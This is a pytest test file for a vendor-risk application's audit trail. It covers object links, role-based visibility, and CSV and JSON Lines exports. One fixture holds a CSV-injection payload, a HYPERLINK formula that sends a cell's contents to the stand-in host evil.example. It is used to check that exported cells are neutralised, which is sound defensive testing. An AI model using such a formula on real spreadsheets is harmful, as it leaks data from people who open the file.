"""The audit trail page links each event's object to its page, and the trail downloads as CSV
or JSON Lines with the page's filters, neutralised for spreadsheets and itself audited."""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from conftest import events, login_as

from vendor_risk.core.csv_text import spreadsheet_safe
from vendor_risk.db import db
from vendor_risk.models import (
    AuditAction,
    AuditEvent,
    AuditOutcome,
    Credential,
    DataCategory,
    FourthParty,
    NetworkZone,
    Role,
    System,
    User,
    Vendor,
)
from vendor_risk.services import audit, audit_log, incidents, mail
from vendor_risk.services.audit import Actor
from vendor_risk.services.inventory import vendors as vendor_service
from vendor_risk.web.admin.audit_links import OBJECT_PAGES, WITHOUT_PAGE, object_links

SOURCE = Path(__file__).resolve().parents[1] / "vendor_risk"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def record(app, action, *, actor="admin@example.com", outcome=AuditOutcome.success, **fields):
    with app.app_context():
        event = audit.record(db.session, action, actor=Actor(actor), outcome=outcome, **fields)
        db.session.commit()
        return event.seq


def first_id(app, model) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.min(model.id)))


def object_cell(page: str, seq: int) -> str:
    """The Object cell of event ``seq`` on an events page, as HTML."""
    row = re.search(rf'<tr class="outcome-\w+">\s*<td>{seq}</td>(.*?)</tr>', page, re.S)
    assert row, f"event {seq} is not listed"
    return re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)[4]


def href(cell: str) -> str | None:
    match = re.search(r'<a href="([^"]+)">', cell)
    return html.unescape(match.group(1)) if match else None


@pytest.fixture
def demo_app(app):
    result = app.test_cli_runner().invoke(args=["demo"])
    assert result.exit_code == 0, result.output
    return app


@pytest.fixture
def admin(make_user):
    return make_user(Role.admin)


@pytest.fixture
def admin_client(client, admin):
    login_as(client, admin)
    return client


# ---- links -----------------------------------------------------------------------------------


def test_every_object_type_recorded_has_a_page_or_is_known_to_have_none():
    """The mapping is the one place: a new object type written by a service shows up here."""
    recorded = set()
    for path in SOURCE.rglob("*.py"):
        source = path.read_text()
        recorded |= set(re.findall(r'object_type="(\w+)"', source))
        recorded |= set(re.findall(r'"object_type": "(\w+)"', source))
        recorded |= set(re.findall(r'AuditAction\.\w+, "(\w+)"\)', source))  # _HOLDER_AUDIT
    assert {"vendor", "system", "credential", "incident", "questionnaire_version"} <= recorded
    assert recorded - WITHOUT_PAGE - OBJECT_PAGES.keys() == set()
    assert not (WITHOUT_PAGE & OBJECT_PAGES.keys())


def test_each_type_of_object_links_to_its_page_which_opens(demo_app, make_user, client):
    app = demo_app
    officer = make_user(Role.risk_officer)
    with app.app_context():
        vendor_id = first_id(app, Vendor)
        incident = incidents.open_incident(
            db.session,
            {
                "vendor_id": vendor_id,
                "title": "Breach at the first vendor",
                "started_at": datetime.now(UTC) - timedelta(days=3),
                "detected_at": datetime.now(UTC) - timedelta(days=1),
                "notes": "",
            },
            actor=Actor(officer.email, user_id=officer.id),
        )
        db.session.commit()
        assert incident.id
    # The demo records events for users, requests, findings, questionnaire versions and an
    # assessment decision; the inventory, loaded in bulk, has one event for the whole file:
    # one event more for each kind of inventory object, as its service writes it.
    for object_type, model in (
        ("vendor", Vendor),
        ("vendor_rating", Vendor),
        ("system", System),
        ("credential", Credential),
        ("data_category", DataCategory),
        ("network_zone", NetworkZone),
        ("fourth_party", FourthParty),
    ):
        record(
            app,
            AuditAction.vendor_updated,
            object_type=object_type,
            object_id=first_id(app, model),
        )
    with app.app_context():  # an email retried from the outbox
        message = mail.send_mail(db.session, to="ops@example.com", subject="Hello", body="Hi")
        db.session.commit()
        message_id = message.id
    record(app, AuditAction.email_retried, object_type="email", object_id=message_id)
    with app.app_context():
        trail = db.session.scalars(sa.select(AuditEvent).order_by(AuditEvent.seq)).all()
        with app.test_request_context():
            links = object_links(trail, {Role.risk_officer})
        one_of_each = {}
        for event in trail:
            if event.object_type in OBJECT_PAGES and event.object_type not in one_of_each:
                one_of_each[event.object_type] = links[event.seq]
    assert one_of_each.keys() == OBJECT_PAGES.keys()
    # A user's page is an admin's: a risk officer sees the user named, not linked.
    assert one_of_each.pop("user").href is None
    assert one_of_each.pop("email").href is None  # the outbox too

    login_as(client, officer)
    for object_type, link in one_of_each.items():
        assert link.href, object_type
        response = client.get(link.href)
        assert response.status_code == 200, (object_type, link.href)


def test_admins_follow_user_links_and_see_other_objects_as_text(demo_app, admin_client):
    """Admins read the trail but not the inventory: a vendor is named, not linked to a page
    that would refuse them; a user links to the admin's user page."""
    app = demo_app
    vendor_id = first_id(app, Vendor)
    with app.app_context():
        contact = db.session.scalar(sa.select(User).where(User.role == Role.vendor_contact))
        contact_id, contact_email = contact.id, contact.email
    vendor_seq = record(app, AuditAction.vendor_updated, object_type="vendor", object_id=vendor_id)
    user_seq = record(app, AuditAction.user_disabled, object_type="user", object_id=contact_id)

    page = admin_client.get("/admin/audit").get_data(as_text=True)

    user_link = href(object_cell(page, user_seq))
    assert user_link == f"/admin/users/{contact_id}"
    opened = admin_client.get(user_link)
    assert opened.status_code == 200
    assert contact_email in opened.get_data(as_text=True)
    vendor_cell = object_cell(page, vendor_seq)
    assert href(vendor_cell) is None
    assert f"vendor {vendor_id}" in vendor_cell
    # Nobody was refused anything on the way.
    assert not events(app, AuditAction.access_denied)


def test_a_deleted_object_and_an_odd_id_stay_text(app, admin_client, make_user):
    officer = make_user(Role.risk_officer)
    actor = Actor(officer.email, user_id=officer.id)
    with app.app_context():
        vendor = vendor_service.create_vendor(db.session, {"name": "Gone Ltd"}, actor=actor)
        db.session.commit()
        vendor_id = vendor.id
        vendor_service.delete_vendor(db.session, vendor, actor=actor)
        db.session.commit()
    created = events(app, AuditAction.vendor_created)[0].seq
    deleted = events(app, AuditAction.vendor_deleted)[0].seq
    odd = record(app, AuditAction.vendor_updated, object_type="vendor", object_id="not-a-number")
    huge = record(app, AuditAction.vendor_updated, object_type="vendor", object_id="9" * 40)
    unknown = record(app, AuditAction.access_denied, object_type="endpoint", object_id="x.y")

    response = admin_client.get("/admin/audit")

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    for seq in (created, deleted):
        cell = object_cell(page, seq)
        assert href(cell) is None
        assert f"vendor {vendor_id}" in cell and "(deleted)" in cell
    for seq in (odd, huge, unknown):
        assert href(object_cell(page, seq)) is None
    with app.app_context(), app.test_request_context():
        trail = db.session.scalars(sa.select(AuditEvent)).all()
        links = object_links(trail, {Role.risk_officer})  # even for whom may open vendors
    assert links[created].href is None and links[created].gone


# ---- exports ---------------------------------------------------------------------------------


def add_pairs(app, count: int) -> None:
    with app.app_context():
        for _ in range(count):
            audit.record(
                db.session,
                AuditAction.login_failed,
                actor=Actor("mallory@example.com"),
                outcome=AuditOutcome.failure,
            )
            audit.record(db.session, AuditAction.login_password, actor=Actor("alice@example.com"))
        db.session.commit()


def csv_rows(response) -> list[dict[str, str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def jsonl_rows(response) -> list[dict]:
    body = response.get_data(as_text=True)
    assert body.endswith("\n")
    return [json.loads(line) for line in body.splitlines()]  # each line parses on its own


def test_exports_keep_the_page_filters(app, admin_client):
    add_pairs(app, 60)  # mallory's failures are the odd numbers 1..119
    query = "actor=mallory&outcome=failure&action=auth.login.failed"

    page = admin_client.get(f"/admin/audit?{query}").get_data(as_text=True)
    links = {
        html.unescape(m) for m in re.findall(r'<a href="(/admin/audit\.(?:csv|jsonl)[^"]*)"', page)
    }
    assert len(links) == 2
    for link in links:
        assert "actor=mallory" in link and "outcome=failure" in link

    as_csv = admin_client.get(f"/admin/audit.csv?{query}&before=50")  # every page, not one
    assert as_csv.status_code == 200
    assert as_csv.is_streamed
    assert as_csv.headers["Content-Type"].startswith("text/csv")
    assert as_csv.headers["Content-Disposition"].startswith("attachment;")
    assert as_csv.headers["Cache-Control"] == "no-store"
    rows = csv_rows(as_csv)
    assert [int(r["seq"]) for r in rows] == list(range(1, 120, 2))  # oldest first
    assert {r["actor"] for r in rows} == {"mallory@example.com"}
    assert {r["outcome"] for r in rows} == {"failure"}

    as_jsonl = admin_client.get(f"/admin/audit.jsonl?{query}")
    assert as_jsonl.headers["Content-Type"].startswith("application/x-ndjson")
    lines = jsonl_rows(as_jsonl)
    assert [r["seq"] for r in lines] == list(range(1, 120, 2))
    assert lines[0]["details"] == {} and len(lines[0]["hash"]) == 64


def test_the_export_streams_a_long_trail_in_batches(app, admin_client, monkeypatch):
    monkeypatch.setattr(audit_log, "EXPORT_BATCH", 7)
    add_pairs(app, 25)

    rows = jsonl_rows(admin_client.get("/admin/audit.jsonl"))

    assert [r["seq"] for r in rows] == list(range(1, 51))
    # The chain of what was exported checks out: each row's previous hash is the one before.
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(rows))


def test_a_half_sent_export_blocks_no_writer_and_holds_only_its_rows(
    app, admin_client, monkeypatch
):
    monkeypatch.setattr(audit_log, "EXPORT_BATCH", 5)
    add_pairs(app, 10)  # events 1..20; the export's own record is 21

    response = admin_client.get("/admin/audit.jsonl", buffered=False)
    chunks = iter(response.response)
    received = [next(chunks) for _ in range(3)]
    # Someone logs in while the download is under way: not kept waiting for a lock.
    later = record(app, AuditAction.login_password, actor="late@example.com")
    received.extend(chunks)
    response.close()

    rows = [json.loads(line) for line in b"".join(received).decode().splitlines()]
    assert [r["seq"] for r in rows] == list(range(1, 21))
    assert later == 22


def test_the_export_is_recorded_with_its_filters_and_rows(app, admin_client, admin):
    add_pairs(app, 3)

    admin_client.get("/admin/audit.csv?actor=alice&since=2000-01-01").get_data()
    admin_client.get("/admin/audit.jsonl").get_data()

    exported = events(app, AuditAction.audit_exported)
    assert [e.details for e in exported] == [
        {"format": "csv", "filters": {"actor": "alice", "since": "2000-01-01"}, "rows": 3},
        {"format": "jsonl", "filters": {}, "rows": 7},  # the 6 and the first export
    ]
    assert {(e.actor, e.actor_id) for e in exported} == {(admin.email, admin.id)}
    # The second export holds the first one's record.
    last = jsonl_rows(admin_client.get("/admin/audit.jsonl?action=admin.audit.exported"))
    assert [r["details"]["format"] for r in last] == ["csv", "jsonl"]


def test_csv_cells_never_run_as_formulas(app, admin_client):
    seq = record(
        app,
        AuditAction.vendor_updated,
        actor="@SUM(1+1)",
        object_type="vendor",
        object_id="-2+3",
        details={"name": FORMULA},
    )

    row = next(r for r in csv_rows(admin_client.get("/admin/audit.csv")) if r["seq"] == str(seq))

    assert row["actor"] == "'@SUM(1+1)"
    assert row["object_id"] == "'-2+3"
    assert not row["details"].startswith(("=", "+", "-", "@"))
    assert json.loads(row["details"]) == {"name": FORMULA}
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # JSON Lines keeps every value as stored.
    line = next(r for r in jsonl_rows(admin_client.get("/admin/audit.jsonl")) if r["seq"] == seq)
    assert (line["actor"], line["object_id"], line["details"]) == (
        "@SUM(1+1)",
        "-2+3",
        {"name": FORMULA},
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_value_starting_like_a_formula_is_prefixed(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_an_ordinary_value_is_left_alone():
    assert spreadsheet_safe("alice@example.com") == "alice@example.com"
    assert spreadsheet_safe("") == ""


def test_an_export_with_a_bad_filter_is_refused_and_not_recorded(app, admin_client):
    response = admin_client.get("/admin/audit.csv?since=yesterday")

    assert response.status_code == 400
    assert "From (UTC)" in response.get_data(as_text=True)
    assert not events(app, AuditAction.audit_exported)
